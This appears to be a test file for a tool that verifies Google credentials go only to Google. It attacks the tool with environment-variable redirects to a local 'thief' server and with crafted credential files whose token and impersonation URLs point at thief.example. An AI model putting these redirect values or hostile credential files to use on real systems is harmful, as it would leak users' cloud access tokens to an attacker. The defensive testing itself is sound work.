import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { lazyBundle, loadedWith } from '../bundles';
import { type GoogleOnLoopback, startGoogleOnLoopback } from './googleOnLoopback';

/** Every variable that the bundled libraries of Google read, and why it sends no credential elsewhere. */
const harmless: Readonly<Record<string, string>> = {
  // Which credentials are used, not where they go: the files are checked for the addresses that they name.
  GOOGLE_APPLICATION_CREDENTIALS: 'names a file',
  google_application_credentials: 'names a file',
  CLOUDSDK_CONFIG: 'names a folder',
  APPDATA: 'names a folder',
  HOME: 'names a folder',
  GOOGLE_API_CERTIFICATE_CONFIG: 'names a file',
  GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES: 'allows what a file of the user’s own names',
  AWS_ACCESS_KEY_ID: 'is a secret itself',
  AWS_SECRET_ACCESS_KEY: 'is a secret itself',
  AWS_SESSION_TOKEN: 'is a secret itself',
  AWS_REGION: 'of the signature that is exchanged at Google',
  AWS_DEFAULT_REGION: 'of the signature that is exchanged at Google',
  DEBUG: 'more lines on stderr',
  READABLE_STREAM: 'which streams',
  TEENY_REQUEST_WARN_CONCURRENT_REQUESTS: 'a warning',
  // Proxies: TLS goes through them from end to end.
  HTTPS_PROXY: 'a tunnel',
  https_proxy: 'a tunnel',
  HTTP_PROXY: 'a tunnel',
  http_proxy: 'a tunnel',
  NO_PROXY: 'no tunnel',
  no_proxy: 'no tunnel',
};

/** Set to an address of the thief's, or to what makes the library believe that it runs somewhere else. */
const tried: readonly string[] = [
  'STORAGE_EMULATOR_HOST',
  'GCE_METADATA_HOST',
  'GCE_METADATA_IP',
  'METADATA_SERVER_DETECTION',
  'DETECT_GCP_RETRIES',
  'DEBUG_AUTH',
  'GOOGLE_CLOUD_PROJECT',
  'GCLOUD_PROJECT',
  'gcloud_project',
  'google_cloud_project',
  'GOOGLE_CLOUD_QUOTA_PROJECT',
  'FUNCTION_NAME',
  'FUNCTION_TARGET',
  'K_CONFIGURATION',
  'GAE_SERVICE',
  'GAE_MODULE_NAME',
  'CLOUD_RUN_JOB',
  // Not read by these versions; other libraries of Google do.
  'GOOGLE_CLOUD_UNIVERSE_DOMAIN',
  'GOOGLE_API_USE_MTLS_ENDPOINT',
  'GOOGLE_GEMINI_BASE_URL',
  'GOOGLE_VERTEX_BASE_URL',
  'CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE',
  'CLOUDSDK_API_ENDPOINT_OVERRIDES_AIPLATFORM',
];

/** What the extension does with a user's credentials, in a process of its own. */
const client = () => `
(async () => {
  const { applicationDefaultCredentials, googleOnly } = await import('./${lazyBundle('googleAuth')}');
  const { GoogleCloudStorage } = await import('./${lazyBundle('googleCloudStorage')}');
  const authClient = googleOnly(await applicationDefaultCredentials());
  const origin = (host) => 'https://' + host;
  const storage = new GoogleCloudStorage({ client: authClient, authClient, project: 'sandbox', region: 'us-central1', origin });
  await authClient.request({ url: origin('us-central1-aiplatform.googleapis.com') + '/v1/projects/sandbox/locations/us-central1/tuningJobs' });
  const bucket = 'tunewright-' + process.pid;
  await storage.createBucket(bucket);
  const onProgress = () => {};
  const uri = await storage.upload({ bucket, name: 'a.jsonl', bytes: Buffer.alloc(3 << 20), onProgress }, AbortSignal.timeout(60_000));
  await storage.buckets();
  await storage.remove(uri);
  const elsewhere = await authClient.request({ url: process.argv[1] }).then(() => 'sent', () => 'refused');
  console.log('done', elsewhere);
})().catch((error) => { console.error(error.message); process.exitCode = 1; });
`;

describe('the user’s token', () => {
  let google: GoogleOnLoopback;
  let thief: Server;
  let url: string;
  let folder: string;
  const stolen: { path: string; authorization: string | undefined }[] = [];

  before(async () => {
    google = await startGoogleOnLoopback();
    folder = await mkdtemp(path.join(tmpdir(), 'tunewright-tokens-'));
    thief = createServer((request, response) => {
      stolen.push({ path: request.url ?? '', authorization: request.headers.authorization });
      response.end('{}');
    });
    thief.listen(0, '127.0.0.1');
    await once(thief, 'listening');
    url = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  });
  beforeEach(() => stolen.splice(0));
  after(async () => {
    thief?.close();
    await google?.stop();
    await rm(folder, { recursive: true, force: true });
  });

  const run = (args: readonly string[], env: Readonly<Record<string, string>>) =>
    new Promise<{ out: string; err: string }>((resolve) => {
      const all = { PATH: process.env.PATH, ...google.env, ...env };
      execFile(process.execPath, args, { env: all }, (_, out, err) => resolve({ out, err }));
    });

  /** `GCE_METADATA_HOST` is a host without a scheme. */
  const hostile = () =>
    Object.fromEntries(tried.map((name) => [name, name.startsWith('GCE_') ? new URL(url).host : url]));

  it('is looked for in every variable that the bundled libraries read', () => {
    const bundles = ['googleAuth', 'googleCloudStorage'].map(lazyBundle);
    const files = new Set(bundles.flatMap((bundle) => loadedWith(bundle, { later: true })));
    const read = [...files].flatMap((file) => {
      const text = readFileSync(file, 'utf8');
      return [...text.matchAll(/process\??\.env(?:\??\.(\w+)|\[["'](\w+)["']\])/g)].map(
        ([, dotted, quoted]) => dotted ?? quoted ?? '',
      );
    });
    const known = new Set([...Object.keys(harmless), ...tried]);
    assert.ok(read.includes('STORAGE_EMULATOR_HOST'));
    assert.deepEqual(
      [...new Set(read)].filter((name) => !known.has(name)),
      [],
    );
  });

  it('goes to Google alone, whatever the environment says', async () => {
    await google.loginWithGcloud({ quota_project_id: 'quota-project' });
    google.asked.length = 0;
    const { GOOGLE_CLOUD_QUOTA_PROJECT, METADATA_SERVER_DETECTION, ...env } = hostile();
    const { out, err } = await run(['-e', client(), url], env);
    assert.equal(out, 'done refused\n', err);
    assert.deepEqual(stolen, []);
    const hosts = new Set(google.asked.filter(({ authorization }) => authorization).map(({ host }) => host));
    assert.deepEqual([...hosts].sort(), ['storage.googleapis.com', 'us-central1-aiplatform.googleapis.com']);
  });

  it('goes to Google alone from the command line', async () => {
    await google.loginWithGcloud();
    google.asked.length = 0;
    const data = path.join(folder, 'data.jsonl');
    await writeFile(data, '{"text_input": "1", "output": "2"}\n');
    const target = 'geminiApi:models/gemini-2.5-flash';
    const { METADATA_SERVER_DETECTION, ...env } = hostile();
    await run(['dist/cli.js', 'evaluate', data, '--target', target, '--yes', '--project', 'p'], env);
    assert.deepEqual(stolen, []);
    assert.ok(
      google.asked.some(
        ({ host, authorization }) => host === 'generativelanguage.googleapis.com' && authorization,
      ),
    );
  });

  it('is not sent at all for a file of credentials that names another address', async () => {
    const own = await google.userCredentials();
    for (const file of [
      { ...own, universe_domain: 'thief.example' },
      { ...own, token_uri: `${url.replace('127.0.0.1', '127.0.0.2')}/token` },
      {
        type: 'impersonated_service_account',
        source_credentials: { ...own, universe_domain: 'thief.example' },
        service_account_impersonation_url:
          'https://thief.example/v1/projects/-/serviceAccounts/a@b:generateAccessToken',
      },
      {
        type: 'external_account',
        audience: 'a',
        subject_token_type: 't',
        token_url: 'https://thief.example/token',
        credential_source: { file: '/etc/hostname' },
      },
    ]) {
      await google.writeCredentials(file);
      google.asked.length = 0;
      const { err } = await run(['-e', client(), url], {});
      assert.match(err, /would have been sent to .*, which isn't a Google host/);
      assert.deepEqual(google.asked, []);
      assert.deepEqual(stolen, []);
    }
  });
});
